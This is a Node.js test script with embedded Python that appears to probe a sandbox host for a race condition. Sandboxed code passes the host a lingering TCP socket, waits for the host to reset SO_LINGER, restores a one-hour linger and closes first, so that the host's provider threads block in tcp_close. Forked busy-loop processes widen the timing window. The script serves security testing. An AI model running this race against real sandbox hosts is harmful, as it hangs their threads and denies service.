'use strict';
// R15 probe: the race docs/security.md leaves open — the sandbox keeps a copy of a passed
// lingering TCP socket X (unsent data, peer P never reading, kept by the program), watches
// SO_LINGER on its copy, and as soon as the host's reset ({1, 0}) shows, sets {1, 3600} again
// and closes its copy, hoping the host's close comes last and waits in tcp_close. Each attempt
// in a forked child (a lost race blocks only that child). SPIN busy processes compete for the
// CPU to stretch the host's window. Then: provider threads stuck in tcp_close, a next run.
// Control: 0 attempts.   usage: node linger-race.js [tries] [spin]
const h = require('./h');
const TRIES = Number(process.argv[2] || 60), SPIN = Number(process.argv[3] || 2);
const CODE = h.PY + String.raw`
tries, spin = int(sys.argv[1]), int(sys.argv[2])
for i in range(spin):
    if os.fork() == 0:
        while True: pass
c4 = socket.socket(fileno=4)
keep = []; res = {}
for t in range(tries):
    X, P = linger_pair(); keep.append(P)
    pid = os.fork()
    if pid == 0:
        send(c4, b'junk', [X.fileno()])
        n = 0; t0 = time.time()
        while time.time() - t0 < 0.3:
            v = X.getsockopt(socket.SOL_SOCKET, socket.SO_LINGER, 8)
            if v == b'\x01\x00\x00\x00\x00\x00\x00\x00':
                n += 1
                X.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 3600))
                if n == 2:
                    X.close(); os._exit(2)
        os._exit(n)
    X.close()  # not the last reference: the child holds one
    t0 = time.time(); st = None
    while time.time() - t0 < 0.5:
        r = os.waitpid(pid, os.WNOHANG)
        if r[0]: st = os.waitstatus_to_exitcode(r[1]); break
        time.sleep(0.005)
    k = {None: 'child-blocked(lost)', 0: 'no-reset-seen', 1: 'one-reset-then-host-closed', 2: 'second-reset-seen-and-closed-first'}.get(st, str(st))
    res[k] = res.get(k, 0) + 1
    try:
        c4.setblocking(False)
        while True: c4.recv(64)
    except Exception: pass
log('RES', __import__('json').dumps(res)); log('DONE')
time.sleep(30)
`;
(async () => {
  const s = await h.server('sink');
  const out = [];
  for (const tries of [0, TRIES]) {
    const ex = h.py(CODE, [tries, SPIN], { policy: h.policyFor(s.port) });
    for (let i = 0; i < 600 && !/DONE|Traceback/.test(ex.text); i++) await h.sleep(100);
    await h.sleep(500);
    const r = { tries, res: (ex.text.match(/RES (.*)/) || [, ex.text.slice(-200)])[1], stuck: h.stuck(), snap: h.snap(), nextMs: await h.next(0) };
    await h.within(ex.stop(), 10000); await h.sleep(300);
    r.after = { stuck: h.stuck(), snap: h.snap() };
    out.push(r); console.log(JSON.stringify(r));
  }
  s.shut();
  const a = out[1];
  console.log(a.stuck.length || a.after.stuck.length || a.nextMs === 'UNSETTLED' ? `FINDING: the linger race won: stuck [${a.stuck}] (${a.res})` : `held (${a.res}; no provider thread in tcp_close, next run ${a.nextMs} ms)`);
  process.exit(0);
})();
